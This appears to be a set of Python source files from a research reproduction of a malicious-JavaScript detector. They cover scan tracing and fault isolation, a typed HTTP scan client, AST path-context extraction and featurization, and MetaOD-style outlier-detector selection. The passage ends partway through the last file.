        info = fault_info[i] or {}
        faulted = statuses[i] in FAULT_CAUSES
        events: list[dict] = []
        if triaged[i]:
            events.append({"name": "triage_decisive", "offset_ms": 0.0})
        elif self.cache is not None and not info.get("known"):
            events.append({"name": "cache_hit" if hit_flags[i] else "cache_miss", "offset_ms": 0.0})
        if info.get("known"):
            events.append({"name": "quarantine_hit", "offset_ms": 0.0})
        file_span = root.synthesize(
            "script",
            sum(per_file_ms[i].values()),
            span_id=span_id,
            attributes={
                "script": str(names[i]),
                "index": i,
                "status": statuses[i],
                "cache_hit": hit_flags[i],
                "triaged": triaged[i],
            },
            events=events,
            status="error" if faulted else "ok",
            status_detail=info.get("detail") if faulted else None,
        )
        spans = [file_span]
        norm = norm_reports[i]
        if norm is not None:
            spans.append(
                root.synthesize(
                    "deobfuscate",
                    norm.elapsed_ms,
                    parent_id=span_id,
                    attributes={
                        "changed": norm.changed,
                        "degraded": norm.degraded,
                        "fixpoint": norm.fixpoint,
                        "iterations": norm.iterations,
                        "rewrites": norm.total_rewrites,
                    },
                    status="error" if norm.degraded else "ok",
                    status_detail=norm.degraded_reason,
                )
            )
        has_analyze_spans = any(s.get("name") == "worker.analyze" for s in worker_spans[i] or [])
        if per_file_ms[i].get("analysis") and not has_analyze_spans:
            spans.append(root.synthesize("analysis", per_file_ms[i]["analysis"], parent_id=span_id))
        for span_dict in worker_spans[i] or []:
            span_dict = {**span_dict, "trace_id": root.trace_id}
            root.add_span_dict(span_dict)
            spans.append(span_dict)
        has_embed_spans = any(s.get("name") == "worker.embed" for s in worker_spans[i] or [])
        if faulted and not has_embed_spans:
            # The worker never replied (killed / deadline overrun): the
            # terminal span is synthesized from the parent's classification.
            deadline = self.limits.deadline_for("embed") if self.limits is not None else None
            spans.append(
                root.synthesize(
                    "worker.embed",
                    1000.0 * deadline if (info.get("cause") == "timeout" and deadline) else 0.0,
                    parent_id=span_id,
                    attributes={
                        "cause": info.get("cause", statuses[i]),
                        "quarantined": bool(info.get("quarantined")),
                    },
                    status="error",
                    status_detail=info.get("detail"),
                )
            )
        elif (
            not has_embed_spans and not triaged[i] and not hit_flags[i] and entries[i] is not None
        ):
            spans.append(
                root.synthesize(
                    "path_extraction", per_file_ms[i].get("path_extraction", 0.0), parent_id=span_id
                )
            )
            spans.append(
                root.synthesize("embedding", per_file_ms[i].get("embedding", 0.0), parent_id=span_id)
            )
        row = X[position[i]] if (X is not None and i in position) else None
        return {
            "trace_id": root.trace_id,
            "span_id": span_id,
            "provenance": self._provenance(analyses[i], top_paths[i], row, norm),
            "spans": span_tree(spans),
        }

    def _provenance(
        self,
        analysis,
        top_paths: list | None,
        row: np.ndarray | None,
        norm_report: "NormalizationReport | None" = None,
    ) -> dict:
        """Why the verdict: rule hits, attention paths, cluster features."""
        provenance: dict = {}
        if norm_report is not None and norm_report.interesting:
            provenance["normalization"] = norm_report.to_dict()
        if analysis is not None:
            rules = []
            for f in analysis.findings:
                entry: dict = {
                    "rule_id": f.rule_id,
                    "severity": f.severity,
                    "decisive": f.decisive,
                    "line": f.line,
                }
                if f.raw_line is not None:
                    entry["raw_line"] = f.raw_line
                if f.witness:
                    entry["witness"] = f.witness
                rules.append(entry)
            provenance["rules"] = rules
            provenance["analysis_score"] = round(float(analysis.score), 6)
            if analysis.suppressed_at:
                provenance["suppressed_at"] = analysis.suppressed_at
        if top_paths is not None:
            provenance["top_paths"] = top_paths
        if row is not None:
            provenance["cluster_features"] = self.detector.feature_provenance(row)
        return provenance

    # ------------------------------------------------------------ embedding

    def _embed_sequential(
        self, source: str, file_ms: dict[str, float], capture_paths: bool = False
    ) -> tuple[CacheEntry, str, list | None]:
        from repro.jsparser import JSSyntaxError
        from repro.paths import ExtractionError

        detector = self.detector
        status = STATUS_OK
        started = time.perf_counter()
        with detector._timed("path_extraction"):
            try:
                contexts = detector.extractor.extract_from_source(source)
            except (JSSyntaxError, ExtractionError, RecursionError):
                contexts = []
                status = STATUS_PARSE_ERROR
        file_ms["path_extraction"] = 1000.0 * (time.perf_counter() - started)
        started = time.perf_counter()
        top_paths: list | None = None
        if capture_paths:
            vectors, weights, kept = detector.embed_script(contexts, return_indices=True)
            file_ms["embedding"] = 1000.0 * (time.perf_counter() - started)
            top_paths = _top_attention_paths([contexts[int(j)] for j in kept], weights)
        else:
            vectors, weights = detector.embed_script(contexts)
            file_ms["embedding"] = 1000.0 * (time.perf_counter() - started)
        entry = CacheEntry(vectors=vectors, weights=weights, path_count=len(contexts))
        return entry, status, top_paths

    def _create_pool(self):
        detector = self.detector
        config = detector.config
        parameters = {
            name: np.ascontiguousarray(tensor)
            for name, tensor in detector.embedder.model.parameters().items()
        }
        extractor_kwargs = {
            "max_length": config.max_path_length,
            "max_width": config.max_path_width,
            "use_dataflow": config.use_dataflow,
        }
        context = multiprocessing.get_context()
        return context.Pool(
            processes=self.n_workers,
            initializer=_init_worker,
            initargs=(extractor_kwargs, detector.embedder.model.embed_dim, parameters, config.max_paths_per_script),
        )

    def _embed_parallel(
        self,
        pending: list[int],
        sources: list[str],
        entries: list[CacheEntry | None],
        per_file_ms: list[dict[str, float]],
        statuses: list[str],
        capture_paths: bool = False,
        top_paths: list[list | None] | None = None,
    ) -> None:
        if self.persistent:
            if self._pool is None:
                self._pool = self._create_pool()
            try:
                self._drive_pool(
                    self._pool, pending, sources, entries, per_file_ms, statuses,
                    capture_paths, top_paths,
                )
            except Exception:
                # A broken persistent pool would poison every later scan;
                # drop it so the next parallel scan rebuilds from scratch.
                self.close()
                raise
        else:
            with self._create_pool() as pool:
                self._drive_pool(
                    pool, pending, sources, entries, per_file_ms, statuses,
                    capture_paths, top_paths,
                )

    def _drive_pool(
        self,
        pool,
        pending: list[int],
        sources: list[str],
        entries: list[CacheEntry | None],
        per_file_ms: list[dict[str, float]],
        statuses: list[str],
        capture_paths: bool = False,
        top_paths: list[list | None] | None = None,
    ) -> None:
        detector = self.detector
        todo = iter(pending)
        in_flight: deque = deque()

        def submit() -> bool:
            position = next(todo, None)
            if position is None:
                return False
            in_flight.append(
                (position, pool.apply_async(_embed_source, (sources[position], capture_paths)))
            )
            return True

        for _ in range(self.queue_depth):
            if not submit():
                break
        while in_flight:
            position, handle = in_flight.popleft()
            vectors, weights, path_count, extract_ms, embed_ms, status, paths = handle.get()
            entries[position] = CacheEntry(vectors=vectors, weights=weights, path_count=path_count)
            statuses[position] = status
            per_file_ms[position]["path_extraction"] = extract_ms
            per_file_ms[position]["embedding"] = embed_ms
            if top_paths is not None:
                top_paths[position] = paths
            # Worker CPU time still lands in the detector's Table VIII
            # accounting, even though wall-clock overlaps under the pool.
            detector.stage_seconds["path_extraction"] += extract_ms / 1000.0
            detector.stage_counts["path_extraction"] += 1
            detector.stage_seconds["embedding"] += embed_ms / 1000.0
            detector.stage_counts["embedding"] += 1
            submit()

    # ------------------------------------------------------------- isolation

    def _embed_isolated(
        self,
        pending: list[int],
        sources: list[str],
        names: list[str],
        keys: list[str | None],
        entries: list[CacheEntry | None],
        per_file_ms: list[dict[str, float]],
        statuses: list[str],
        fault_info: list[dict | None],
        faulted: list[int],
        root: "Span | None" = None,
        file_span_ids: list[str] | None = None,
        worker_spans: list[list | None] | None = None,
        top_paths: list[list | None] | None = None,
    ) -> None:
        """Run pending scripts through the fault-isolated pool.

        Faults are settled in place: status + fault envelope + quarantine
        record; clean outcomes land exactly like the plain pool's.  When
        tracing (``root`` given), each task carries a ``traceparent``
        naming its pre-generated file span id, so the spans the worker
        ships back re-parent correctly under the batch trace.
        """
        if not pending:
            return
        detector = self.detector
        pool = self._ensure_iso_pool()
        recording = root is not None and file_span_ids is not None
        tasks = [
            Task(
                kind="embed",
                index=i,
                source=sources[i],
                name=str(names[i]),
                traceparent=(
                    SpanContext(root.trace_id, file_span_ids[i]).to_traceparent()
                    if recording
                    else None
                ),
            )
            for i in pending
        ]
        for outcome in pool.run(tasks):
            i = outcome.index
            if outcome.ok:
                vectors, weights, path_count, extract_ms, embed_ms, status, paths = outcome.payload
                entries[i] = CacheEntry(vectors=vectors, weights=weights, path_count=path_count)
                statuses[i] = status
                per_file_ms[i]["path_extraction"] = extract_ms
                per_file_ms[i]["embedding"] = embed_ms
                if top_paths is not None:
                    top_paths[i] = paths
                if worker_spans is not None and outcome.spans:
                    worker_spans[i] = list(outcome.spans)
                detector.stage_seconds["path_extraction"] += extract_ms / 1000.0
                detector.stage_counts["path_extraction"] += 1
                detector.stage_seconds["embedding"] += embed_ms / 1000.0
                detector.stage_counts["embedding"] += 1
                continue
            statuses[i] = outcome.cause or "crashed"
            fault_info[i] = {
                "cause": statuses[i],
                "detail": outcome.detail,
                "stage": "embed",
                "rusage": outcome.rusage,
                "quarantined": self.quarantine is not None,
            }
            faulted.append(i)
            self._count_failure(statuses[i])
            if self.quarantine is not None and keys[i] is not None:
                self.quarantine.record(
                    QuarantineEntry(
                        sha256=keys[i],
                        name=str(names[i]),
                        stage="embed",
                        cause=statuses[i],
                        detail=outcome.detail or "",
                        rusage=outcome.rusage,
                    )
                )

    def _degraded_analyses(
        self,
        faulted: list[int],
        sources: list[str],
        names: list[str],
        analyses: list,
        per_file_ms: list[dict[str, float]],
        norm_reports: "list[NormalizationReport | None] | None" = None,
        raw_sources: list[str] | None = None,
        root: "Span | None" = None,
        file_span_ids: list[str] | None = None,
        worker_spans: list[list | None] | None = None,
    ) -> None:
        """Triage-only fallback for faulted scripts, still behind isolation.

        A script that hung or OOMed the embed worker could do the same to
        an in-process analyzer, so the degraded analysis runs as its own
        deadline-bounded pool task.  A script whose analysis also faults
        simply stays verdictless.  Skipped where triage already ran.
        """
        from repro.analysis import AnalysisReport, annotate_raw_spans, apply_raw_suppressions

        todo = [i for i in faulted if analyses[i] is None]
        if not todo:
            return
        pool = self._ensure_iso_pool()
        recording = root is not None and file_span_ids is not None
        tasks = [
            Task(
                kind="analyze",
                index=i,
                source=sources[i],
                name=str(names[i]),
                traceparent=(
                    SpanContext(root.trace_id, file_span_ids[i]).to_traceparent()
                    if recording
                    else None
                ),
            )
            for i in todo
        ]
        for outcome in pool.run(tasks):
            if outcome.ok and isinstance(outcome.payload, dict):
                report = AnalysisReport.from_dict(outcome.payload)
                # The pool task analyzed the (already normalized) source; map
                # spans back to the submitted original here, outside the task.
                if norm_reports is not None:
                    norm = norm_reports[outcome.index]
                    if norm is not None and norm.changed and norm.line_map:
                        annotate_raw_spans(report, norm.line_map)
                        if raw_sources is not None:
                            apply_raw_suppressions(report, raw_sources[outcome.index])
                analyses[outcome.index] = report
                per_file_ms[outcome.index]["analysis"] = outcome.elapsed_ms
                if worker_spans is not None and outcome.spans:
                    existing = worker_spans[outcome.index] or []
                    worker_spans[outcome.index] = existing + list(outcome.spans)
