"""Typed stdlib client for the v1 scan API.

One class wraps the whole contract from API.md: every call speaks the
``/v1`` envelope, every non-2xx becomes a typed :class:`ScanAPIError`
carrying the machine-readable ``code``, and backpressure (429/503) is
retried with exponential backoff that honors the server's
``Retry-After`` — against a single daemon or a cluster router
identically, because the two expose the same surface.

    from repro.client import ScanClient

    with ScanClient("http://127.0.0.1:8076") as client:
        verdict = client.scan(source, name="suspect.js")
        if verdict.malicious:
            ...

Synchronous and ``http.client``-only by design: the callers this serves
(CI smoke scripts, the load generator, batch submitters) want zero
dependencies and no event loop.  ``sleep`` is injectable so tests can
assert the backoff schedule without waiting it out.
"""

from __future__ import annotations

import http.client
import json
import time
from dataclasses import dataclass
from urllib.parse import quote, urlsplit

from repro.serve.api import V1_PREFIX, EnvelopeError, parse_envelope

#: Statuses the client retries: backpressure and brownout, never 4xx
#: (other than 429) — those mean the *request* is wrong.
RETRY_STATUSES = (429, 503)


class ScanAPIError(Exception):
    """A v1 error envelope, surfaced: branch on ``code``, read ``message``."""

    def __init__(
        self,
        status: int,
        code: str,
        message: str,
        detail: dict | None = None,
        trace_id: str | None = None,
    ):
        super().__init__(f"{status} {code}: {message}")
        self.status = status
        self.code = code
        self.message = message
        self.detail = detail
        self.trace_id = trace_id


@dataclass
class ScanVerdict:
    """One scan answer, typed; ``raw`` keeps the full data object."""

    verdict: str
    malicious: bool
    probability: float
    label: int
    threshold: float
    model_fingerprint: str | None
    trace_id: str | None
    cache_hit: bool
    raw: dict
    #: Deobfuscation pre-pass report (``deobfuscate=True`` requests where
    #: the normalizer did something); ``None`` otherwise.
    normalization: dict | None = None

    @classmethod
    def from_data(cls, data: dict) -> "ScanVerdict":
        return cls(
            verdict=str(data.get("verdict", "")),
            malicious=bool(data.get("malicious", False)),
            probability=float(data.get("probability", 0.0)),
            label=int(data.get("label", 0)),
            threshold=float(data.get("threshold", 0.5)),
            model_fingerprint=data.get("model_fingerprint"),
            trace_id=data.get("trace_id"),
            cache_hit=bool(data.get("cache_hit", False)),
            raw=data,
            normalization=data.get("normalization"),
        )


class ScanClient:
    """Sync client for one scan endpoint (daemon or cluster router).

    Args:
        base_url: ``http://host:port`` of the service.
        timeout_s: Per-round-trip socket timeout.
        retries: Extra attempts after the first, spent only on transport
            errors and :data:`RETRY_STATUSES`.  ``0`` fails fast.
        backoff_s: Base of the exponential backoff (doubles per retry);
            a server ``Retry-After`` longer than the computed delay wins.
        sleep: Injectable clock for tests.
    """

    def __init__(
        self,
        base_url: str,
        timeout_s: float = 30.0,
        retries: int = 2,
        backoff_s: float = 0.25,
        sleep=time.sleep,
    ):
        parts = urlsplit(base_url if "//" in base_url else f"//{base_url}", scheme="http")
        if parts.scheme != "http":
            raise ValueError(f"only http:// endpoints are supported, got {base_url!r}")
        if not parts.hostname:
            raise ValueError(f"no host in {base_url!r}")
        self.host = parts.hostname
        self.port = parts.port or 80
        self.timeout_s = timeout_s
        self.retries = retries
        self.backoff_s = backoff_s
        self._sleep = sleep

    @classmethod
    def for_shard(cls, shard: dict, **kwargs) -> "ScanClient":
        """A client dialing one shard from a router fleet snapshot.

        ``shard`` is an entry of ``/v1/healthz``'s ``shards`` array; its
        ``host`` is the shard's *bind* address (``--bind``), which may
        differ from the router's listen host.
        """
        return cls(f"http://{shard['host']}:{shard['port']}", **kwargs)

    # --------------------------------------------------------------- calls

    def scan(
        self,
        source: str,
        name: str | None = None,
        threshold: float | None = None,
        traceparent: str | None = None,
        deobfuscate: bool | None = None,
    ) -> ScanVerdict:
        payload: dict = {"source": source}
        if name is not None:
            payload["name"] = name
        if threshold is not None:
            payload["threshold"] = threshold
        if deobfuscate is not None:
            payload["deobfuscate"] = deobfuscate
        headers = {"traceparent": traceparent} if traceparent else None
        return ScanVerdict.from_data(self._request("POST", "/scan", payload, headers=headers))

    def scan_batch(
        self, scripts: list, threshold: float | None = None, deobfuscate: bool | None = None
    ) -> dict:
        """Batch scan; ``scripts`` entries are sources or ``{source, name}``."""
        payload: dict = {"scripts": scripts}
        if threshold is not None:
            payload["threshold"] = threshold
        if deobfuscate is not None:
            payload["deobfuscate"] = deobfuscate
        return self._request("POST", "/scan/batch", payload)

    def analyze(self, source: str, name: str | None = None) -> dict:
        payload: dict = {"source": source}
        if name is not None:
            payload["name"] = name
        return self._request("POST", "/analyze", payload)

    def healthz(self) -> dict:
        return self._request("GET", "/healthz")

    def version(self) -> dict:
        return self._request("GET", "/version")

    def status(self) -> dict:
        """The router's fleet pane of glass: shards, SLO states, posture.

        Router-only (a single daemon answers 404); ``repro top`` polls it.
        """
        return self._request("GET", "/status")

    def traces(
        self, n: int = 20, slow_ms: float | None = None, status: str | None = None
    ) -> dict:
        query = f"n={n}"
        if slow_ms is not None:
            # quote(): "1e+09" must not decode to "1e 09" server-side.
            query += f"&slow_ms={quote(f'{slow_ms:g}')}"
        if status is not None:
            query += f"&status={quote(status)}"
        return self._request("GET", f"/debug/traces?{query}")

    def trace(self, trace_id: str) -> dict:
        return self._request("GET", f"/debug/traces/{trace_id}")

    def admin_reload(self, model_dir: str) -> dict:
        return self._request("POST", "/admin/reload", {"model_dir": model_dir})

    def metrics_text(self, aggregate: str | None = None) -> str:
        """Prometheus exposition (the one unwrapped endpoint).

        ``aggregate="sum"`` / ``"by-shard"`` asks a router for the
        federated fleet view instead of its local registry.
        """
        path = f"{V1_PREFIX}/metrics"
        if aggregate is not None:
            path += f"?aggregate={aggregate}"
        status, _headers, body = self._roundtrip("GET", path, None)
        if status != 200:
            raise ScanAPIError(status, "internal", "metrics endpoint failed")
        return body.decode("utf-8")

    def prof(self, seconds: float = 1.0, hz: float | None = None) -> str:
        """Collapsed-stack wall-clock profile from ``GET /v1/debug/prof``.

        Blocks for ``seconds`` while the service samples itself.
        """
        path = f"{V1_PREFIX}/debug/prof?seconds={quote(f'{seconds:g}')}"
        if hz is not None:
            path += f"&hz={quote(f'{hz:g}')}"
        status, _headers, body = self._roundtrip("GET", path, None)
        if status != 200:
            raise ScanAPIError(status, "internal", "profile endpoint failed")
        return body.decode("utf-8")

    # ------------------------------------------------------------- plumbing

    def _roundtrip(
        self, method: str, path: str, body: bytes | None, extra: dict | None = None
    ) -> tuple[int, dict, bytes]:
        connection = http.client.HTTPConnection(self.host, self.port, timeout=self.timeout_s)
        try:
            headers = {"Content-Type": "application/json"} if body is not None else {}
            headers.update(extra or {})
            connection.request(method, path, body=body, headers=headers)
            response = connection.getresponse()
            data = response.read()
            return response.status, {k.lower(): v for k, v in response.getheaders()}, data
        finally:
            connection.close()

    def _delay(self, attempt: int, headers: dict) -> float:
        delay = self.backoff_s * (2**attempt)
        retry_after = headers.get("retry-after")
        if retry_after is not None:
            try:
                delay = max(delay, float(retry_after))
            except ValueError:
                pass
        return delay

    def _request(
        self, method: str, path: str, payload: dict | None = None, headers: dict | None = None
    ):
        body = json.dumps(payload).encode("utf-8") if payload is not None else None
        attempt = 0
        while True:
            try:
                status, response_headers, data = self._roundtrip(
                    method, f"{V1_PREFIX}{path}", body, extra=headers
                )
            except (OSError, http.client.HTTPException) as error:
                if attempt >= self.retries:
                    raise ScanAPIError(0, "transport", repr(error)) from error
                self._sleep(self._delay(attempt, {}))
                attempt += 1
                continue
            try:
                return parse_envelope(status, data)
            except EnvelopeError as error:
                if error.status in RETRY_STATUSES and attempt < self.retries:
                    self._sleep(self._delay(attempt, response_headers))
                    attempt += 1
                    continue
                raise ScanAPIError(
                    error.status, error.code, error.message,
                    detail=error.detail, trace_id=error.trace_id,
                ) from error

    # -------------------------------------------------------------- context

    def __enter__(self) -> "ScanClient":
        return self

    def __exit__(self, *exc) -> bool:
        return False
