"""AST path-context extraction (Sec. III-B of the paper).

A *path context* is the triple ``<x_s, n1…nk, x_t>`` connecting two leaves
of the (enhanced) AST through their lowest common ancestor.  Extraction is
bounded by:

* **max length** — the number of nodes on the path (``k``), default 12, and
* **max width** — the maximum difference between the child indices, at the
  lowest common ancestor, of the two branches the path descends through,
  default 4.

Leaf values come from :meth:`repro.dataflow.EnhancedAST.leaf_value`:
identifiers participating in a data-dependency edge keep their name, all
other leaves are type-abstracted (``@var_str``, ``@lit_int``, …).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.dataflow import EnhancedAST, build_enhanced_ast, build_regular_ast
from repro.jsparser import LEAF_TYPES, parse
from repro.jsparser import ast_nodes as ast

#: Paper defaults, following Alon et al.'s locality/sparsity discussion.
DEFAULT_MAX_LENGTH = 12
DEFAULT_MAX_WIDTH = 4


class ExtractionError(Exception):
    """Structured failure of path extraction on a parseable program.

    Raised instead of letting a raw ``RecursionError`` escape when a
    pathologically nested AST (e.g. a ``1+1+…+1`` chain thousands of terms
    deep, which the iterative parser accepts but the recursive extraction
    walk cannot traverse) blows the interpreter stack.  Callers treat it
    like a syntax error: no paths, structured ``parse_error`` status.
    """


@dataclass(frozen=True)
class PathContext:
    """One extracted path: endpoint values plus the node-type spine.

    ``nodes`` runs from the source leaf's type up to the LCA and down to
    the target leaf's type; ``arrow_index`` marks the LCA position (used by
    the featurizer to encode direction changes).
    """

    source_value: str
    nodes: tuple[str, ...]
    target_value: str
    arrow_index: int

    def signature(self) -> str:
        """A printable, hashable rendering (used for vocabulary/corpus)."""
        ups = "↑".join(self.nodes[: self.arrow_index + 1])
        downs = "↓".join(self.nodes[self.arrow_index :])
        spine = ups + "↓" + downs.split("↓", 1)[1] if "↓" in downs else ups
        return f"{self.source_value},{spine},{self.target_value}"

    @property
    def length(self) -> int:
        return len(self.nodes)


@dataclass
class _LeafInfo:
    node: ast.Node
    #: Path of (node, child_index) from the root to this leaf.
    ancestry: list[tuple[ast.Node, int]]


def _collect_leaves(root: ast.Node) -> list[_LeafInfo]:
    """All value-bearing leaves with their root ancestry, in source order."""
    leaves: list[_LeafInfo] = []

    def visit(node: ast.Node, ancestry: list[tuple[ast.Node, int]]) -> None:
        children = list(node.children())
        if node.type in LEAF_TYPES and not children:
            leaves.append(_LeafInfo(node, list(ancestry)))
            return
        if not children:
            return
        for index, child in enumerate(children):
            ancestry.append((node, index))
            visit(child, ancestry)
            ancestry.pop()

    visit(root, [])
    return leaves


class PathExtractor:
    """Extracts bounded path contexts from JavaScript programs.

    Args:
        max_length: Maximum number of nodes on a path (paper: 12).
        max_width: Maximum child-index spread at the LCA (paper: 4).
        use_dataflow: True → enhanced AST (keep names of data-dependent
            leaves); False → regular AST (the Table IV ablation).
    """

    def __init__(
        self,
        max_length: int = DEFAULT_MAX_LENGTH,
        max_width: int = DEFAULT_MAX_WIDTH,
        use_dataflow: bool = True,
    ):
        if max_length < 3:
            raise ValueError("max_length must be at least 3 (leaf, LCA, leaf)")
        if max_width < 1:
            raise ValueError("max_width must be at least 1")
        self.max_length = max_length
        self.max_width = max_width
        self.use_dataflow = use_dataflow

    # ------------------------------------------------------------------ API

    def extract_from_source(self, source: str) -> list[PathContext]:
        """Parse ``source`` and extract its path contexts."""
        program = parse(source)
        return self.extract_from_program(program)

    def extract_from_program(self, program: ast.Program) -> list[PathContext]:
        builder = build_enhanced_ast if self.use_dataflow else build_regular_ast
        try:
            return self.extract(builder(program))
        except RecursionError as error:
            # The AST outlived the parser's own depth guard (left-deep
            # chains parse iteratively); fail structurally, not fatally.
            raise ExtractionError("nesting too deep to extract paths") from error

    def extract(self, enhanced: EnhancedAST) -> list[PathContext]:
        """Extract all bounded leaf-to-leaf path contexts."""
        leaves = _collect_leaves(enhanced.program)
        contexts: list[PathContext] = []
        n = len(leaves)
        for i in range(n):
            for j in range(i + 1, n):
                context = self._path_between(enhanced, leaves[i], leaves[j])
                if context is not None:
                    contexts.append(context)
        return contexts

    # ------------------------------------------------------------- internals

    def _path_between(self, enhanced: EnhancedAST, a: _LeafInfo, b: _LeafInfo) -> PathContext | None:
        # Find the lowest common ancestor via the recorded ancestries.
        depth = 0
        limit = min(len(a.ancestry), len(b.ancestry))
        while depth < limit and a.ancestry[depth][0] is b.ancestry[depth][0]:
            depth += 1
        if depth == 0:
            return None  # different roots — cannot happen for one program
        lca_index = depth - 1

        # Width check: child-index spread at the LCA.
        width = abs(a.ancestry[lca_index][1] - b.ancestry[lca_index][1])
        if width > self.max_width:
            return None

        # Nodes: source leaf -> up to LCA -> down to target leaf.
        up = [a.node.type] + [node.type for node, _ in reversed(a.ancestry[lca_index + 1 :])]
        lca_type = a.ancestry[lca_index][0].type
        down = [node.type for node, _ in b.ancestry[lca_index + 1 :]] + [b.node.type]
        nodes = tuple(up + [lca_type] + down)
        if len(nodes) > self.max_length:
            return None

        return PathContext(
            source_value=enhanced.leaf_value(a.node),
            nodes=nodes,
            target_value=enhanced.leaf_value(b.node),
            arrow_index=len(up),
        )


def extract_paths(
    source: str,
    max_length: int = DEFAULT_MAX_LENGTH,
    max_width: int = DEFAULT_MAX_WIDTH,
    use_dataflow: bool = True,
) -> list[PathContext]:
    """One-call helper: source text → list of path contexts."""
    extractor = PathExtractor(max_length=max_length, max_width=max_width, use_dataflow=use_dataflow)
    return extractor.extract_from_source(source)
