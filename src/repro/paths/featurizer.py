"""Path context → initial feature vector (the ``p_i`` of Eq. 1).

The embedding model's fully connected layer consumes a fixed-width numeric
representation of each path.  We encode:

* counts of each AST node type along the spine (fixed vocabulary),
* hashed buckets for the two endpoint values (so data-flow-preserved names
  contribute consistent signal across paths that share a variable),
* structural scalars: path length, LCA position, and up/down asymmetry.

The mapping is deterministic and stateless, so extraction and embedding can
run per-file without a global vocabulary pass.
"""

from __future__ import annotations

import hashlib

import numpy as np

from .extraction import PathContext

#: Node-type vocabulary (ESTree types our parser emits).
NODE_TYPES = (
    "Program",
    "ExpressionStatement",
    "BlockStatement",
    "EmptyStatement",
    "VariableDeclaration",
    "VariableDeclarator",
    "IfStatement",
    "ForStatement",
    "ForInStatement",
    "ForOfStatement",
    "WhileStatement",
    "DoWhileStatement",
    "ReturnStatement",
    "BreakStatement",
    "ContinueStatement",
    "ThrowStatement",
    "TryStatement",
    "CatchClause",
    "SwitchStatement",
    "SwitchCase",
    "LabeledStatement",
    "WithStatement",
    "DebuggerStatement",
    "FunctionDeclaration",
    "Identifier",
    "Literal",
    "TemplateLiteral",
    "ThisExpression",
    "ArrayExpression",
    "ObjectExpression",
    "Property",
    "FunctionExpression",
    "ArrowFunctionExpression",
    "UnaryExpression",
    "UpdateExpression",
    "BinaryExpression",
    "LogicalExpression",
    "AssignmentExpression",
    "ConditionalExpression",
    "CallExpression",
    "NewExpression",
    "MemberExpression",
    "SequenceExpression",
    "SpreadElement",
)

_TYPE_INDEX = {name: i for i, name in enumerate(NODE_TYPES)}

#: Hash buckets per endpoint value.
VALUE_BUCKETS = 32

#: Total feature width: type counts + 2×value buckets + 6 scalars.
FEATURE_DIM = len(NODE_TYPES) + 2 * VALUE_BUCKETS + 6


def _value_bucket(value: str) -> int:
    digest = hashlib.blake2s(value.encode("utf-8", "replace"), digest_size=4).digest()
    return int.from_bytes(digest, "little") % VALUE_BUCKETS


class PathFeaturizer:
    """Deterministic ``PathContext`` → ``np.ndarray`` mapping."""

    feature_dim = FEATURE_DIM

    def transform_one(self, context: PathContext) -> np.ndarray:
        vec = np.zeros(FEATURE_DIM)
        for node_type in context.nodes:
            index = _TYPE_INDEX.get(node_type)
            if index is not None:
                vec[index] += 1.0
        base = len(NODE_TYPES)
        vec[base + _value_bucket(context.source_value)] += 1.0
        vec[base + VALUE_BUCKETS + _value_bucket(context.target_value)] += 1.0

        scalars = base + 2 * VALUE_BUCKETS
        length = context.length
        vec[scalars + 0] = length / 12.0
        vec[scalars + 1] = context.arrow_index / max(length, 1)
        vec[scalars + 2] = (length - context.arrow_index) / max(length, 1)
        vec[scalars + 3] = 1.0 if context.source_value == context.target_value else 0.0
        # Data-dependency endpoint markers: the signal the enhanced AST
        # adds, and the one component renaming obfuscation cannot touch —
        # emphasized (weight 2) so the embedding space separates data-flow
        # -bearing paths from purely syntactic ones.
        vec[scalars + 4] = 2.0 if context.source_value.startswith("@dd_") else 0.0
        vec[scalars + 5] = 2.0 if context.target_value.startswith("@dd_") else 0.0
        return vec

    def transform(self, contexts: list[PathContext]) -> np.ndarray:
        """Stack feature vectors; empty input gives an empty (0, F) array."""
        if not contexts:
            return np.zeros((0, FEATURE_DIM))
        return np.vstack([self.transform_one(c) for c in contexts])
