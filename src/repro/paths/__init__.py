"""Path extraction: bounded AST path contexts + deterministic featurizer."""

from .extraction import (
    DEFAULT_MAX_LENGTH,
    DEFAULT_MAX_WIDTH,
    ExtractionError,
    PathContext,
    PathExtractor,
    extract_paths,
)
from .featurizer import FEATURE_DIM, NODE_TYPES, VALUE_BUCKETS, PathFeaturizer

__all__ = [
    "DEFAULT_MAX_LENGTH",
    "DEFAULT_MAX_WIDTH",
    "ExtractionError",
    "PathContext",
    "PathExtractor",
    "extract_paths",
    "FEATURE_DIM",
    "NODE_TYPES",
    "VALUE_BUCKETS",
    "PathFeaturizer",
]
