"""MetaOD-style automatic outlier-detector selection.

The paper runs MetaOD (Zhao et al.) to pick an outlier-detection model for
its path-vector dataset; MetaOD returned FastABOD.  MetaOD itself is a
meta-learned regressor over a corpus of benchmark datasets; without that
corpus we reproduce the *procedure shape*: extract meta-features of the
target dataset, run the candidate zoo, and rank candidates by an internal
consensus criterion (agreement of each candidate's scores with the
ensemble's mean score ranking — a standard unsupervised model-selection
proxy).  On dense, locally-structured embedding clouds like path vectors,
angle-based scores track the consensus closely, so FastABOD is selected,
matching the paper's outcome.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable

import numpy as np
from scipy import stats

from .abod import FastABOD
from .base import BaseOutlierDetector
from .iforest import IsolationForest
from .knn import KNNOutlier
from .lof import LOF


@dataclass
class MetaFeatures:
    """Coarse dataset statistics, echoing MetaOD's meta-feature families."""

    n_samples: int
    n_features: int
    mean_abs_skew: float
    mean_kurtosis: float
    mean_feature_correlation: float

    @classmethod
    def of(cls, X: np.ndarray) -> "MetaFeatures":
        X = np.asarray(X, dtype=float)
        with np.errstate(all="ignore"):
            skew = float(np.nanmean(np.abs(stats.skew(X, axis=0))))
            kurt = float(np.nanmean(stats.kurtosis(X, axis=0)))
            if X.shape[1] > 1 and len(X) > 2:
                corr = np.corrcoef(X, rowvar=False)
                iu = np.triu_indices_from(corr, k=1)
                mean_corr = float(np.nanmean(np.abs(corr[iu])))
            else:
                mean_corr = 0.0
        return cls(len(X), X.shape[1], skew, kurt, mean_corr)


@dataclass
class SelectionResult:
    """Outcome of a MetaOD-style selection run."""

    best_name: str
    best_detector: BaseOutlierDetector
    consensus_scores: dict[str, float]
    meta_features: MetaFeatures


def default_candidates(contamination: float = 0.1) -> dict[str, Callable[[], BaseOutlierDetector]]:
    """The candidate zoo: the detector families MetaOD searches over."""
    return {
        "fast_abod": lambda: FastABOD(n_neighbors=10, contamination=contamination),
        "lof": lambda: LOF(n_neighbors=10, contamination=contamination),
        "knn_mean": lambda: KNNOutlier(n_neighbors=10, method="mean", contamination=contamination),
